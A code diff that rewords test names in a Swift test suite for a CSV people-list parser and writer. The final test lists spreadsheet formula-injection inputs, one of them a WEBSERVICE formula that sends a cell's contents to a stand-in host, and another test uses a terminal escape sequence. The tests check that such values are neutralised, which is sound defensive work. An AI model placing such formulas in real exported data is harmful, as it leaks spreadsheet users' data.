@@ -8,13 +8,14 @@ struct PeopleListTests {
     try PeopleList(parsing: Array(text.utf8))
   }
 
-  @Test func `reads names and lifetimes, in either order of the columns`() throws {
+  @Test func `reads names and lifetimes, with the columns in either order`() throws {
     let people = try list("username,lifetime\nmina,60\njun,\n").people
     #expect(people == [.init(username: "mina", lifetime: 60), .init(username: "jun", lifetime: nil)])
     #expect(try list("lifetime,username\n60,mina\n").people == [.init(username: "mina", lifetime: 60)])
   }
 
-  @Test func `takes what spreadsheets write: a byte order mark, carriage returns, quotes, no last line end`() throws {
+  @Test func `accepts what spreadsheets write: a byte order mark, carriage returns, quotes, no final line end`() throws
+  {
     let text = "\u{FEFF}\"username\"\r\n\"mi,na\"\r\n\"ju\"\"n\""
     #expect(try list(text).people.map(\.username) == ["mi,na", "ju\"n"])
     #expect(try list(text).wrong.isEmpty)
@@ -37,17 +38,17 @@ struct PeopleListTests {
     ("lifetime;username\n", .separator(.semicolon)), ("username;\n", .separator(.semicolon)),
     ("username\tlifetime\nmina\t60\n", .separator(.tab)), ("a;b\n", .unknownColumn("a;b")),
   ])
-  func `names what separates the fields in place of commas`(text: String, problem: PeopleListProblem) {
+  func `names the character that separates the fields instead of commas`(text: String, problem: PeopleListProblem) {
     #expect(throws: problem) { try list(text) }
     if case .separator = problem { #expect(problem.description.contains("commas are needed")) }
   }
 
-  @Test func `one field is one field`() {
+  @Test func `a line with one field is read as one field`() {
     #expect(PeopleListProblem.fields(found: 1, wanted: 2).description == "there is 1 field in place of 2")
     #expect(PeopleListProblem.fields(found: 3, wanted: 2).description == "there are 3 fields in place of 2")
   }
 
-  @Test func `says of UTF-16 that it is that`() {
+  @Test func `says that a UTF-16 file is UTF-16`() {
     let text = "username\nmina\n".utf16
     for bytes: [UInt8] in [
       [0xFF, 0xFE] + text.flatMap { [UInt8($0), 0] }, [0xFE, 0xFF] + text.flatMap { [0, UInt8($0)] },
@@ -71,18 +72,18 @@ struct PeopleListTests {
     #expect(parsed.people.map(\.username) == ["first", "last"])
   }
 
-  @Test func `refuses what is not UTF-8, and more lines than it takes`() throws {
+  @Test func `refuses what is not UTF-8, and more lines than the limit`() throws {
     #expect(throws: PeopleListProblem.notUTF8) { try PeopleList(parsing: Array("username\n".utf8) + [0xFF]) }
     let many = "username\n" + (0...PeopleList.maximumCount).map { "a\($0)\n" }.joined()
     #expect(throws: PeopleListProblem.tooMany) { try list(many) }
   }
 
-  @Test func `what a list says reaches the terminal in quotes`() {
+  @Test func `text from a list reaches the terminal only in quotes`() {
     #expect(PeopleListProblem.invalidUsername("\u{1B}[2J").description.hasPrefix("\"\\u{1b}[2J\" is not a username"))
   }
 
   @Test(arguments: ["mina", "mi,na", "ju\"n", "\"", "", "a,b\"\"c"])
-  func `a field that is written is read again as it was`(field: String) throws {
+  func `a field that was written is read back unchanged`(field: String) throws {
     for fields in [[field], [field, "x", field]] {
       let line = CSVLine.written(fields)
       #expect(line.hasSuffix("\n"))
@@ -93,7 +94,7 @@ struct PeopleListTests {
   @Test(arguments: [
     #"=WEBSERVICE("http://a.test/?"&B2)"#, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=1,2", "=\u{301}1",
     "\u{FF1D}1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}1",
-  ]) func `no field that is written is a formula, with quotes or without`(field: String) throws {
+  ]) func `no written field is a formula, with quotes or without`(field: String) throws {
     let line = CSVLine.written(["mina", field])
     #expect(line.utf8.starts(with: "mina,'".utf8) || line.utf8.starts(with: "mina,\"'".utf8))
     #expect(try CSVLine(parsing: String(line.dropLast())).fields == ["mina", "'" + field])
